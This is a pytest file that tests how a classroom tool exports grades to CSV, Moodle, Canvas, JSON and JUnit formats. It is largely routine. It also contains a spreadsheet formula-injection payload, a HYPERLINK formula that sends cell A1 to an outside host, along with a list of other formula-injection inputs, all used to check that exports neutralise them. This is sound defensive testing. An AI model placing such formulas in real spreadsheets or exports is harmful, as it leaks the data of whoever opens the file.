"""Grades for other programs: each file is read back as that program reads it."""

import csv
import io
import json
from dataclasses import replace
from datetime import datetime, timedelta
from xml.etree import ElementTree

import pytest

from tutor.classroom.checkpoint import Checkpoint
from tutor.classroom.exports import Format, GradedLearner, export, harmless
from tutor.classroom.grading import grade
from tutor.classroom.server.records import State, StateStatus

EVIL = '=HYPERLINK("http://example.org?"&A1)'


def rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


@pytest.fixture
def due(checkpoint: Checkpoint) -> datetime:
    assert checkpoint.due
    return checkpoint.due


@pytest.fixture
def learners(checkpoint: Checkpoint, due: datetime) -> list[GradedLearner]:
    """Ada did half of a lesson, a day late in one task; whoever has the evil name did nothing."""
    states = [
        State("ada", "tables/plans", "plan-names", StateStatus.PASSED, passed=due.timestamp()),
        State("ada", "words/greeting", "greeting", StateStatus.PASSED, passed=(due + timedelta(hours=1)).timestamp()),
        State("ada", "tables/plans", "counted", StateStatus.UNMET, message="-5 lines,\nnot\x07 2"),
    ]
    return [
        GradedLearner("ada", 'Lovelace, "Ada"', "0042", "ada@example.org", (grade(checkpoint, states),)),
        GradedLearner("eve", EVIL, "", "", (grade(checkpoint, []),)),
    ]


def test_a_spreadsheet_gets_points_by_lesson_and_the_reasons(
    checkpoint: Checkpoint, learners: list[GradedLearner]
) -> None:
    header, ada, eve = rows(export(Format.CSV, [checkpoint], learners))
    assert header == [
        "Number",
        "Name",
        "Email",
        "Week 1 (of 10)",
        "Week 1: tables/plans (of 4)",
        "Week 1: tables/rates (of 4)",
        "Week 1: words/greeting (of 2)",
        "Week 1: why",
    ]
    assert ada[:7] == ["0042", 'Lovelace, "Ada"', "ada@example.org", "3.8", "2", "0", "1.8"]
    assert "words/greeting, greeting: 1.8 of 2: passed 2026-03-08 13:00:00 UTC, 1 day begun" in ada[7]
    assert "tables/plans, counted: 0 of 2: not done: -5 lines," in ada[7]
    assert eve[1] == f"'{EVIL}"


def test_moodle_gets_a_grade_and_a_feedback_column(checkpoint: Checkpoint, learners: list[GradedLearner]) -> None:
    header, ada, eve = rows(export(Format.MOODLE, [checkpoint], learners))
    assert header == ["ID number", "Full name", "Email address", "Week 1 (Real)", "Week 1 (Feedback)"]
    assert ada[:4] == ["0042", 'Lovelace, "Ada"', "ada@example.org", "3.8"]
    assert ada[4]
    assert eve[3] == "0"


def test_canvas_gets_the_possible_points_below_the_header(
    checkpoint: Checkpoint, learners: list[GradedLearner]
) -> None:
    header, possible, ada, eve = rows(export(Format.CANVAS, [checkpoint], learners))
    assert header == ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", "Week 1"]
    assert possible == ["    Points Possible", "", "", "", "", "10"]
    assert ada == ['Lovelace, "Ada"', "", "0042", "ada@example.org", "", "3.8"]
    assert eve == [f"'{EVIL}", "", "", "", "", "0"]


@pytest.mark.parametrize("format", [Format.CSV, Format.MOODLE, Format.CANVAS])
def test_checkpoints_of_one_title_are_told_apart(
    checkpoint: Checkpoint, learners: list[GradedLearner], format: Format
) -> None:
    again = replace(checkpoint, id="week-1-again")
    both = [replace(learner, grades=learner.grades * 2) for learner in learners]
    header, *_ = rows(export(format, [checkpoint, again], both))
    assert len(header) == len(set(header))
    assert any("Week 1 (week-1-again)" in cell for cell in header)


@pytest.mark.parametrize("format", [Format.CSV, Format.MOODLE, Format.CANVAS])
def test_every_row_has_as_many_cells_on_one_line(
    checkpoint: Checkpoint, learners: list[GradedLearner], format: Format
) -> None:
    text = export(format, [checkpoint], learners)
    assert len({len(row) for row in rows(text)}) == 1
    assert len(text.splitlines()) == len(rows(text))


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("=1+1", "'=1+1"),
        ("+SUM(A1)", "'+SUM(A1)"),
        ("-cmd", "'-cmd"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("  =1+1", "'=1+1"),
        ("\t=1+1", "'=1+1"),
        ("\r\n=1+1", "'=1+1"),
        ("\x00=1+1", "'=1+1"),
        ("\ufeff=1+1", "'=1+1"),
        ("\uff1d1+1", "'\uff1d1+1"),
        ("Ada;=1+1", "Ada;'=1+1"),
        ('Ada",=1+1', "Ada\",'=1+1"),
        ("Ada, =1+1", "Ada, '=1+1"),
        ("-5", "-5"),
        ("+49.5", "+49.5"),
        ("Jean-Luc", "Jean-Luc"),
        ("ada@example.org", "ada@example.org"),
        ("two\nlines", "two lines"),
        ("", ""),
    ],
)
def test_nothing_is_taken_for_a_formula(text: str, shown: str) -> None:
    assert harmless(text) == shown


def test_json_tells_all(checkpoint: Checkpoint, learners: list[GradedLearner]) -> None:
    found = json.loads(export(Format.JSON, [checkpoint], learners))
    assert found["checkpoints"][0]["due"] == "2026-03-08T12:00:00+00:00"
    ada, eve = found["learners"]
    assert (eve["name"], eve["grades"][0]["points"]) == (EVIL, 0)
    assert ada["grades"][0]["points"] == pytest.approx(3.8)
    greeting = ada["grades"][0]["lessons"][2]["tasks"][0]
    assert (greeting["task"], greeting["reason"], greeting["most"]) == ("greeting", "late", 2)


def test_junit_has_a_suite_a_learner_and_a_case_a_task(checkpoint: Checkpoint, learners: list[GradedLearner]) -> None:
    root = ElementTree.fromstring(export(Format.JUNIT, [checkpoint], learners))
    ada, eve = root.findall("testsuite")
    assert ada.attrib == {
        "name": 'week-1: Lovelace, "Ada" (0042)',
        "tests": "4",
        "failures": "2",
        "errors": "0",
        "skipped": "0",
    }
    assert eve.attrib["failures"] == "4"
    cases = {case.attrib["name"]: case for case in ada.findall("testcase")}
    assert cases["plan-names"].find("failure") is None
    failure = cases["counted"].find("failure")
    assert failure is not None
    assert failure.attrib["message"] == "not done: -5 lines,\nnot 2"
    assert "1.8 of 2 points" in (cases["greeting"].findtext("system-out") or "")


@pytest.mark.parametrize("format", list(Format))
def test_a_class_without_learners_gives_a_file_that_can_be_read(checkpoint: Checkpoint, format: Format) -> None:
    assert export(format, [checkpoint], []).strip()
    assert export(format, [], []).strip()
